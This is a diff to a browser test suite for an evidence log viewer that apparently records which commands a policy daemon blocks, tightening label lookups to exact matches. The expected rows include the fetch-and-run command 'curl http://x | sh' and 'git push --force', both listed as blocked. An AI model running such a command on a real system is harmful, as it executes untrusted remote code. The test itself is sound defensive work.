@@ -92,7 +92,7 @@ describe('evidence', () => {
 
   it('filters by decision and by session', async () => {
     const { page } = view;
-    await page.getByLabel('Decision').selectOption('block');
+    await page.getByLabel('Decision', { exact: true }).selectOption('block');
     await page.getByRole('button', { name: 'Apply filters' }).click();
     await expect
       .poll(() => shown(view), POLL)
@@ -100,8 +100,8 @@ describe('evidence', () => {
         ['curl http://x | sh', 'block'],
         ['git push --force', 'block'],
       ]);
-    await page.getByLabel('Decision').selectOption('');
-    await page.getByLabel('Session').fill('s-ops');
+    await page.getByLabel('Decision', { exact: true }).selectOption('');
+    await page.getByLabel('Session', { exact: true }).fill('s-ops');
     await page.getByRole('button', { name: 'Apply filters' }).click();
     await expect
       .poll(() => shown(view), POLL)
@@ -117,7 +117,7 @@ describe('evidence', () => {
     const [row] = await rowsOf(evidenceTable(view));
     const seq = row?.[0] as string;
     await evidenceTable(view).getByRole('link', { name: seq, exact: true }).click();
-    await page.getByRole('heading', { name: `Record ${seq}` }).waitFor();
+    await page.getByRole('heading', { name: `Record ${seq}`, exact: true }).waitFor();
     expect(page.url()).toMatch(new RegExp(`#/evidence/${seq}$`));
     const lines = (await readFile(daemon.evidenceLog, 'utf8')).trim().split('\n');
     const record = lines.map((line) => JSON.parse(line)).find((entry) => String(entry.seq) === seq);
